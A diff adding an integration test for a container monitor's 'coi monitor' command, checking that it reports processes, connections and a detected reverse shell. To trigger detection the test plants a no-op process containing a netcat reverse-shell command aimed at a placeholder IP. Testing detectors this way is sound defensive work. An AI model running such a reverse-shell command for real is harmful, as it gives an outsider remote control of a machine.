@@ -24,6 +24,7 @@ from tests import netkit
 from tests.conftest import coi_argv, run_coi
 
 from coi.backend import IncusClient
+from coi.backend.exec import ExecRequest
 
 pytestmark = pytest.mark.timeout(2400)  # the first user of the coi image builds it
 
@@ -249,3 +250,42 @@ echo all-done
     events = _events(mon_env)
     assert events and all(e["level"] == "info" for e in events), events
     assert "SECURITY ALERT" not in res.stderr
+
+
+def test_coi_monitor_shows_processes_connections_and_threats(
+    client: IncusClient, build_env: dict[str, str], tmp_path: Path
+) -> None:
+    """`coi monitor`: one look from the host, text and JSON, no response taken."""
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    env = {**build_env, "COI_HOME": str(tmp_path / "home")}
+    res = run_coi("shell", "--background", "--debug", "--image", "coi-tiny", "-w", str(ws), env=env)
+    assert res.returncode == 0, res.stderr
+    (name,) = [n for n in client.instances.names() if n.startswith("coi-")]
+    try:
+        # A process shaped like a reverse shell that sends nothing (`:` is a no-op).
+        stay = "sh -c 'sleep 60; : nc -e /bin/sh 198.51.100.1 4444' >/dev/null 2>&1 &"
+        assert client.exec.quiet(name, ExecRequest(["sh", "-c", stay])) == 0
+        # The session's network proof left a refused probe to the host in SYN_SENT for about
+        # a second: `coi monitor` rightly reports it until it is gone.
+        deadline = time.monotonic() + 10
+        while True:
+            res = run_coi("monitor", name, "--json", env=env)
+            assert res.returncode == 0, res.stderr
+            snap = json.loads(res.stdout)
+            if len(snap["threats"]) == 1 or time.monotonic() > deadline:
+                break
+            time.sleep(0.5)
+        assert snap["container"] == name and snap["processes"]["available"]
+        commands = [p["command"] for p in snap["processes"]["processes"]]
+        assert any("nc -e /bin/sh" in c for c in commands), commands
+        assert [t["title"] for t in snap["threats"]] == ["Reverse shell detected"]
+        assert client.instances.get(name).status == "Running"  # looking is not acting
+        text = run_coi("monitor", name, env=env)
+        assert text.returncode == 0, text.stderr
+        assert "⚠ THREATS DETECTED: 1 critical" in text.stdout
+        assert "PROCESSES (" in text.stdout and "NETWORK (" in text.stdout
+        bad = run_coi("monitor", name, "--json", "--watch", "1", env=env)
+        assert bad.returncode == 2 and "--json cannot be combined with --watch" in bad.stderr
+    finally:
+        client.instances.delete(name, force=True)
